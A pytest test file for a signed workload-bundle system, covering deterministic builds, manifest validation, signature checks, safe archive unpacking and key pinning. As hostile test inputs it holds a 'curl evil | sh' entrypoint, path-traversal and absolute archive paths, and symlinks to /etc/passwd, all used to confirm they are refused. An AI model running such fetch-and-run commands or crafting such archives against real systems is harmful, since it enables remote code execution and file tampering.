import dataclasses
import hashlib
import io
import os
import tarfile
from pathlib import Path

import pytest

from overlay import torrent, wire
from overlay.identity import Identity
from workloads import bundle
from workloads.bundle import BundleError, KeyPins, Limits, Manifest

TOML = """\
name = "mywork"
version = "1.2.0"
entrypoint = ["python3", "-m", "mywork"]
capabilities = ["fetch"]

[limits]
cpu_seconds = 30
"""

OWNER = Identity.generate()
OTHER = Identity.generate()
MANIFEST = Manifest("hostile", "1.0", ("python3", "x.py"))


def _source(root: Path) -> Path:
    src = root / "src"
    (src / "mywork" / "__pycache__").mkdir(parents=True)
    (src / "empty").mkdir()
    (src / "bundle.toml").write_text(TOML)
    (src / "mywork" / "__init__.py").write_text("")
    (src / "mywork" / "__main__.py").write_text("print('hi')\n")
    (src / "mywork" / "__pycache__" / "x.cpython-311.pyc").write_bytes(b"junk")
    (src / "mywork" / "stale.pyc").write_bytes(b"junk")
    (src / "run.sh").write_text("#!/bin/sh\n")
    (src / "run.sh").chmod(0o750)
    return src


def _sha(data: bytes) -> bytes:
    return hashlib.sha256(data).digest()


def _reg(name: str, data: bytes, mode: int = 0o644) -> tuple[tarfile.TarInfo, bytes]:
    info = tarfile.TarInfo(name)
    info.size = len(data)
    info.mode = mode
    return info, data


def _special(name: str, kind: bytes, linkname: str = "") -> tuple[tarfile.TarInfo, bytes]:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = linkname
    return info, b""


def _hostile(
    tmp_path: Path, members: list[tuple[tarfile.TarInfo, bytes]], files: dict[str, bytes]
) -> tuple[Path, bundle.SignedManifest]:
    """A tar exactly as given, with a manifest its owner signed: the archive hash matches."""
    archive = tmp_path / "hostile.tar"
    with tarfile.open(archive, "w", format=tarfile.GNU_FORMAT) as tar:
        for info, data in members:
            tar.addfile(info, io.BytesIO(data) if info.isreg() else None)
    signed = bundle.sign(MANIFEST, _sha(archive.read_bytes()), files, OWNER)
    return archive, signed


def _assert_nothing_left(dest: Path) -> None:
    assert not dest.exists()
    assert list(dest.parent.iterdir()) == []


# ---- build ---------------------------------------------------------------------------------


def test_build_is_deterministic_and_normalised(tmp_path: Path) -> None:
    src = _source(tmp_path)
    first = bundle.build(src, OWNER, tmp_path / "out1")
    for path in src.rglob("*"):
        os.utime(path, (1_000_000, 1_000_000))
    second = bundle.build(src, OWNER, tmp_path / "out2")

    assert first.archive_path == tmp_path / "out1" / "mywork-1.2.0.tar"
    assert second.manifest_path == tmp_path / "out2" / "mywork-1.2.0.manifest"
    assert first.archive_path.read_bytes() == second.archive_path.read_bytes()
    assert first.manifest_path.read_bytes() == second.manifest_path.read_bytes()
    with tarfile.open(first.archive_path) as tar:
        members = tar.getmembers()
    assert [(m.name, m.type, m.mode) for m in members] == [
        ("bundle.toml", tarfile.REGTYPE, 0o644),
        ("empty", tarfile.DIRTYPE, 0o755),
        ("mywork", tarfile.DIRTYPE, 0o755),
        ("mywork/__init__.py", tarfile.REGTYPE, 0o644),
        ("mywork/__main__.py", tarfile.REGTYPE, 0o644),
        ("run.sh", tarfile.REGTYPE, 0o755),
    ]
    assert {(m.mtime, m.uid, m.gid, m.uname, m.gname) for m in members} == {(0, 0, 0, "", "")}


def test_built_manifest_describes_the_archive(tmp_path: Path) -> None:
    built = bundle.build(_source(tmp_path), OWNER, tmp_path / "out")
    signed = bundle.read_manifest(built.manifest_path)

    assert signed == built.signed
    assert signed.manifest == Manifest(
        "mywork", "1.2.0", ("python3", "-m", "mywork"), Limits(cpu_seconds=30), ("fetch",)
    )
    assert signed.archive_sha256 == _sha(built.archive_path.read_bytes())
    assert signed.files == {
        "bundle.toml": _sha(TOML.encode()),
        "mywork/__init__.py": _sha(b""),
        "mywork/__main__.py": _sha(b"print('hi')\n"),
        "run.sh": _sha(b"#!/bin/sh\n"),
    }
    assert signed.owner_key == OWNER.public_key
    # The manifest names the v1 info-hash of the .torrent written beside the archive.
    assert signed.info_hash == torrent.info_hash_of(built.torrent_path.read_bytes())
    assert bundle.load_built(tmp_path / "out") == built
    bundle.verify_manifest(signed)


def test_build_refuses_symlinks(tmp_path: Path) -> None:
    src = _source(tmp_path)
    (src / "link").symlink_to("/etc/passwd")
    with pytest.raises(BundleError, match="symlinks cannot go into a bundle"):
        bundle.build(src, OWNER, tmp_path / "out")


def test_build_refuses_special_files(tmp_path: Path) -> None:
    src = _source(tmp_path)
    os.mkfifo(src / "pipe")
    with pytest.raises(BundleError, match="only regular files and directories"):
        bundle.build(src, OWNER, tmp_path / "out")


def test_build_refuses_output_inside_source(tmp_path: Path) -> None:
    src = _source(tmp_path)
    with pytest.raises(BundleError, match="output must be outside"):
        bundle.build(src, OWNER, src / "dist")


# ---- bundle.toml -----------------------------------------------------------------------------


def test_manifest_defaults() -> None:
    manifest = bundle.parse_manifest('name = "a"\nversion = "1"\nentrypoint = ["./run"]\n')
    assert manifest == Manifest("a", "1", ("./run",), Limits(120, 1024, 64, 120), ())


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ('name = "a"\nentrypoint = ["x"]', "bundle.toml: version is missing"),
        ('version = "1"\nentrypoint = ["x"]', "bundle.toml: name is missing"),
        ('name = "a"\nversion = "1"', "bundle.toml: entrypoint is missing"),
        ('name = "A b"\nversion = "1"\nentrypoint = ["x"]', "bundle.toml: name must be 1-64 characters"),
        ('name = "a"\nversion = 1\nentrypoint = ["x"]', "bundle.toml: version must be a string"),
        ('name = "a"\nversion = "../1"\nentrypoint = ["x"]', "bundle.toml: version must be a string"),
        ('name = "a"\nversion = "1"\nentrypoint = []', "bundle.toml: entrypoint must be a non-empty list"),
        ('name = "a"\nversion = "1"\nentrypoint = "x"', "bundle.toml: entrypoint must be a non-empty list"),
        (
            'name = "a"\nversion = "1"\nentrypoint = ["x"]\ncapabilities = ["shell"]',
            "bundle.toml: capability 'shell' is not one of ['fetch']",
        ),
        (
            'name = "a"\nversion = "1"\nentrypoint = ["x"]\n[limits]\nmemory_mb = 0',
            "bundle.toml: limits.memory_mb must be a positive integer",
        ),
        (
            'name = "a"\nversion = "1"\nentrypoint = ["x"]\n[limits]\nopen_files = true',
            "bundle.toml: limits.open_files must be a positive integer",
        ),
        (
            'name = "a"\nversion = "1"\nentrypoint = ["x"]\n[limits]\ndisk_mb = 5',
            "bundle.toml: limits.disk_mb is not a known limit",
        ),
        ('name = "a"\nversion = "1"\nentrypoint = ["x"]\nowner = "me"', "bundle.toml: unknown key 'owner'"),
        (
            'name = "a"\nversion = "1"\nentrypoint = ["x"]\napi_version = 3',
            "bundle.toml: api_version must be one of 1, 2",
        ),
        ('name = "a"\nversion = "1"\nentrypoint = ["x"]\napi_version = "2"', "bundle.toml: api_version must be one of"),
        (
            'name = "a"\nversion = "1"\nentrypoint = ["x"]\n[job]\ncrawl = true\nvantage = true\n'
            '[results.fields]\nurl = "str"\nlinks = "list[str]"',
            "bundle.toml: job.vantage and job.crawl cannot both be true",
        ),
        (
            'name = "a"\nversion = "1"\nentrypoint = ["x"]\n[job]\nvantage = true\n'
            '[results.fields]\nurl = "str"\nnetwork = "str"',
            "bundle.toml: results.fields.network: the name is the platform's",
        ),
        ('name = "a', "bundle.toml: not valid TOML"),
    ],
)
def test_bad_manifests_are_refused_with_one_line(text: str, message: str) -> None:
    with pytest.raises(BundleError) as caught:
        bundle.parse_manifest(text)
    assert str(caught.value).startswith(message)
    assert "\n" not in str(caught.value)


def test_build_reports_a_bad_manifest(tmp_path: Path) -> None:
    src = tmp_path / "src"
    src.mkdir()
    (src / "bundle.toml").write_text('name = "a"\nentrypoint = ["x"]\n')
    with pytest.raises(BundleError, match="^bundle.toml: version is missing$"):
        bundle.build(src, OWNER, tmp_path / "out")


# ---- signed manifest -------------------------------------------------------------------------


def _signed() -> bundle.SignedManifest:
    return bundle.sign(MANIFEST, _sha(b"archive"), {"x.py": _sha(b"x")}, OWNER)


def test_encode_decode_round_trip() -> None:
    signed = _signed()
    assert bundle.decode(bundle.encode(signed)) == signed


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"\xc1", "manifest: body is not valid msgpack"),
        (wire.encode([1, 2]), "manifest: not a msgpack map"),
        (b"\x00" * (bundle.MAX_MANIFEST_BYTES + 1), "manifest: larger than"),
    ],
)
def test_decode_refuses_garbage(data: bytes, message: str) -> None:
    with pytest.raises(BundleError) as caught:
        bundle.decode(data)
    assert str(caught.value).startswith(message)


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ({"signature": None}, "manifest: signature is missing"),
        ({"owner_key": b"short"}, "manifest: owner_key must be 32 bytes"),
        ({"info_hash": b"x" * 19}, "manifest: info_hash must be None or 20 or 32 bytes"),
        ({"files": {"../evil": _sha(b"")}}, "manifest: files: path '../evil' contains '..'"),
        ({"files": {"/etc/passwd": _sha(b"")}}, "manifest: files: path '/etc/passwd' is absolute"),
        ({"files": {"a": b"short"}}, "manifest: files['a'] must be 32 bytes"),
        ({"version": None}, "manifest: version is missing"),
        ({"extra": 1}, "manifest: unknown key 'extra'"),
    ],
)
def test_decode_refuses_malformed_fields(change: dict, message: str) -> None:
    obj = wire.decode(bundle.encode(_signed()))
    for key, value in change.items():
        if value is None:
            del obj[key]
        else:
            obj[key] = value
    with pytest.raises(BundleError) as caught:
        bundle.decode(wire.encode(obj))
    assert str(caught.value) == message or str(caught.value).startswith(message)


def test_changed_payload_fails_verification() -> None:
    obj = wire.decode(bundle.encode(_signed()))
    obj["entrypoint"] = ["sh", "-c", "curl evil | sh"]
    tampered = bundle.decode(wire.encode(obj))
    with pytest.raises(BundleError, match="^manifest of hostile-1.0: signature does not match the owner key$"):
        bundle.verify_manifest(tampered)


def test_substituted_key_fails_verification() -> None:
    tampered = dataclasses.replace(_signed(), owner_key=OTHER.public_key)
    with pytest.raises(BundleError, match="signature does not match the owner key"):
        bundle.verify_manifest(tampered)


def test_with_info_hash_resigns() -> None:
    signed = _signed()
    with_hash = bundle.with_info_hash(signed, b"\x01" * 20, OWNER)
    assert with_hash.info_hash == b"\x01" * 20
    assert dataclasses.replace(with_hash, info_hash=None, signature=signed.signature) == signed
    bundle.verify_manifest(with_hash)
    with pytest.raises(BundleError, match="signature does not match"):
        bundle.verify_manifest(dataclasses.replace(with_hash, info_hash=b"\x02" * 20))
    with pytest.raises(ValueError, match="only the bundle's owner"):
        bundle.with_info_hash(signed, b"\x01" * 20, OTHER)


def test_cache_path_is_the_archive_hash(tmp_path: Path) -> None:
    assert bundle.cache_path(tmp_path, _signed()) == tmp_path / _sha(b"archive").hex()


# ---- archive and unpack ----------------------------------------------------------------------


def test_unpack_restores_the_tree(tmp_path: Path) -> None:
    built = bundle.build(_source(tmp_path), OWNER, tmp_path / "out")
    dest = bundle.cache_path(tmp_path / "cache", built.signed)

    assert bundle.unpack(built.archive_path, built.signed, dest) == dest
    assert sorted(str(p.relative_to(dest)) for p in dest.rglob("*")) == [
        "bundle.toml",
        "empty",
        "mywork",
        "mywork/__init__.py",
        "mywork/__main__.py",
        "run.sh",
    ]
    assert (dest / "mywork" / "__main__.py").read_text() == "print('hi')\n"
    assert (dest / "run.sh").stat().st_mode & 0o777 == 0o755
    assert (dest / "bundle.toml").stat().st_mode & 0o777 == 0o644
    assert os.listdir(dest.parent) == [dest.name]


def test_flipped_byte_is_refused_and_nothing_unpacked(tmp_path: Path) -> None:
    built = bundle.build(_source(tmp_path), OWNER, tmp_path / "out")
    data = bytearray(built.archive_path.read_bytes())
    data[700] ^= 0x01
    built.archive_path.write_bytes(bytes(data))
    dest = tmp_path / "cache" / "b"
    dest.parent.mkdir()

    with pytest.raises(BundleError, match="sha256 does not match the manifest of mywork-1.2.0"):
        bundle.verify_archive(built.archive_path, built.signed)
    with pytest.raises(BundleError, match="sha256 does not match"):
        bundle.unpack(built.archive_path, built.signed, dest)
    _assert_nothing_left(dest)


def test_unpack_refuses_a_forged_manifest(tmp_path: Path) -> None:
    built = bundle.build(_source(tmp_path), OWNER, tmp_path / "out")
    forged = dataclasses.replace(built.signed, owner_key=OTHER.public_key)
    dest = tmp_path / "cache" / "b"
    dest.parent.mkdir()
    with pytest.raises(BundleError, match="signature does not match"):
        bundle.unpack(built.archive_path, forged, dest)
    _assert_nothing_left(dest)


def test_unpack_refuses_an_existing_destination(tmp_path: Path) -> None:
    built = bundle.build(_source(tmp_path), OWNER, tmp_path / "out")
    dest = tmp_path / "dest"
    dest.mkdir()
    with pytest.raises(BundleError, match="already exists"):
        bundle.unpack(built.archive_path, built.signed, dest)
    assert list(dest.iterdir()) == []


GOOD = _reg("x.py", b"x")
GOOD_FILES = {"x.py": _sha(b"x")}


@pytest.mark.parametrize(
    ("members", "files", "message"),
    [
        ([GOOD, _reg("../evil", b"e")], {**GOOD_FILES, "evil": _sha(b"e")}, "contains '..'"),
        ([GOOD, _reg("a/../../evil", b"e")], GOOD_FILES, "contains '..'"),
        ([GOOD, _reg("/tmp/evil", b"e")], GOOD_FILES, "is absolute"),
        ([GOOD, _reg("a\\..\\evil", b"e")], GOOD_FILES, "forbidden character"),
        ([GOOD, _reg("./x2", b"e")], GOOD_FILES, "is not canonical"),
        ([GOOD, _special("link", tarfile.SYMTYPE, "/etc/passwd")], GOOD_FILES, "refused, it is a symlink"),
        ([GOOD, _special("link", tarfile.SYMTYPE, "x.py")], GOOD_FILES, "refused, it is a symlink"),
        ([GOOD, _special("hard", tarfile.LNKTYPE, "x.py")], GOOD_FILES, "refused, it is a hard link"),
        ([GOOD, _special("tty", tarfile.CHRTYPE)], GOOD_FILES, "refused, it is a device file"),
        ([GOOD, _special("disk", tarfile.BLKTYPE)], GOOD_FILES, "refused, it is a device file"),
        ([GOOD, _special("pipe", tarfile.FIFOTYPE)], GOOD_FILES, "refused, it is a fifo"),
        ([GOOD, _reg("extra.py", b"e")], GOOD_FILES, "'extra.py': not listed in the manifest"),
        ([_reg("x.py", b"evil")], GOOD_FILES, "'x.py': content does not match its sha256"),
        ([GOOD], {**GOOD_FILES, "y.py": _sha(b"y")}, "archive is missing 'y.py'"),
        ([GOOD, _reg("x.py", b"x")], GOOD_FILES, "'x.py': duplicate name"),
        ([GOOD, _reg("X.py", b"x")], {**GOOD_FILES, "X.py": _sha(b"x")}, "'X.py': duplicate name"),
    ],
)
def test_hostile_archives_are_refused(tmp_path: Path, members: list, files: dict[str, bytes], message: str) -> None:
    archive, signed = _hostile(tmp_path, members, files)
    dest = tmp_path / "cache" / "b"
    dest.parent.mkdir()
    with pytest.raises(BundleError, match=message.replace("\\", "\\\\").replace("(", r"\(")):
        bundle.unpack(archive, signed, dest)
    _assert_nothing_left(dest)
    assert not (tmp_path / "evil").exists()


def test_size_bomb_is_refused(tmp_path: Path) -> None:
    members = [_reg("a", b"a" * 600), _reg("b", b"b" * 600)]
    archive, signed = _hostile(tmp_path, members, {"a": _sha(b"a" * 600), "b": _sha(b"b" * 600)})
    dest = tmp_path / "cache" / "b"
    dest.parent.mkdir()
    with pytest.raises(BundleError, match="^archive unpacks to more than 1000 bytes$"):
        bundle.unpack(archive, signed, dest, max_total_bytes=1000)
    _assert_nothing_left(dest)


def test_too_many_files_are_refused(tmp_path: Path) -> None:
    names = ["a", "b", "c"]
    archive, signed = _hostile(tmp_path, [_reg(n, n.encode()) for n in names], {n: _sha(n.encode()) for n in names})
    dest = tmp_path / "cache" / "b"
    dest.parent.mkdir()
    with pytest.raises(BundleError, match="^archive has more than 2 entries$"):
        bundle.unpack(archive, signed, dest, max_files=2)
    _assert_nothing_left(dest)
    assert bundle.unpack(archive, signed, dest, max_files=3) == dest


def test_truncated_archive_is_refused(tmp_path: Path) -> None:
    archive, _ = _hostile(tmp_path, [_reg("a", b"a" * 2000)], {})
    archive.write_bytes(archive.read_bytes()[:1024])
    signed = bundle.sign(MANIFEST, _sha(archive.read_bytes()), {"a": _sha(b"a" * 2000)}, OWNER)
    dest = tmp_path / "cache" / "b"
    dest.parent.mkdir()
    with pytest.raises(BundleError, match="cannot unpack"):
        bundle.unpack(archive, signed, dest)
    _assert_nothing_left(dest)


# ---- key pins --------------------------------------------------------------------------------


def _rotation(old: Identity, new: Identity, name: str = "hostile") -> tuple[bytes, bytes]:
    statement = bundle.rotation_statement(name, old.public_key, new.public_key)
    return statement, old.sign(statement)


def test_pins_accept_the_same_key_and_refuse_another() -> None:
    pins = KeyPins()
    pins.check(_signed())  # nothing pinned yet
    pins.pin(_signed())
    pins.check(_signed())
    assert pins.as_dict() == {"hostile": OWNER.public_hex}

    other = bundle.sign(MANIFEST, _sha(b"archive"), {}, OTHER)
    with pytest.raises(BundleError, match="'hostile' is signed by key .* but pinned to"):
        pins.check(other)
    with pytest.raises(BundleError, match="but pinned to"):
        pins.pin(other)
    assert pins.owner_key("hostile") == OWNER.public_key


def test_rotation_signed_by_the_old_key_is_accepted() -> None:
    pins = KeyPins({"hostile": OWNER.public_hex})
    statement, signature = _rotation(OWNER, OTHER)
    pins.rotate("hostile", OTHER.public_key, statement, signature)
    assert pins.owner_key("hostile") == OTHER.public_key
    pins.check(bundle.sign(MANIFEST, _sha(b"archive"), {}, OTHER))
    with pytest.raises(BundleError, match="but pinned to"):
        pins.check(_signed())


@pytest.mark.parametrize(
    ("make", "message"),
    [
        (lambda: _rotation(OTHER, OTHER), "does not hand 'hostile' from its pinned key"),
        (lambda: (_rotation(OWNER, OTHER)[0], OTHER.sign(_rotation(OWNER, OTHER)[0])), "not signed by its pinned key"),
        (lambda: (_rotation(OWNER, OTHER)[0], b"\x00" * 64), "not signed by its pinned key"),
        (lambda: _rotation(OWNER, OTHER, name="other"), "does not hand 'hostile'"),
        (lambda: _rotation(OWNER, Identity.generate()), "does not hand 'hostile'"),
    ],
)
def test_bad_rotations_are_refused(make, message: str) -> None:
    pins = KeyPins({"hostile": OWNER.public_hex})
    statement, signature = make()
    with pytest.raises(BundleError, match=message):
        pins.rotate("hostile", OTHER.public_key, statement, signature)
    assert pins.owner_key("hostile") == OWNER.public_key


def test_rotation_of_an_unpinned_name_is_refused() -> None:
    statement, signature = _rotation(OWNER, OTHER)
    with pytest.raises(BundleError, match="'hostile' is not pinned"):
        KeyPins().rotate("hostile", OTHER.public_key, statement, signature)


def test_pins_save_and_load(tmp_path: Path) -> None:
    path = tmp_path / "state" / "pins"
    assert KeyPins.load(path).as_dict() == {}
    pins = KeyPins({"b": OTHER.public_hex, "a": OWNER.public_hex})
    pins.save(path)
    assert KeyPins.load(path).as_dict() == {"a": OWNER.public_hex, "b": OTHER.public_hex}
    assert os.listdir(path.parent) == ["pins"]


@pytest.mark.parametrize(
    "data",
    [b"\xc1", wire.encode([1]), wire.encode({"a": "zz"}), wire.encode({"A B": "00" * 32})],
)
def test_bad_pin_files_are_refused(tmp_path: Path, data: bytes) -> None:
    path = tmp_path / "pins"
    path.write_bytes(data)
    with pytest.raises(BundleError, match=f"^{path}: "):
        KeyPins.load(path)
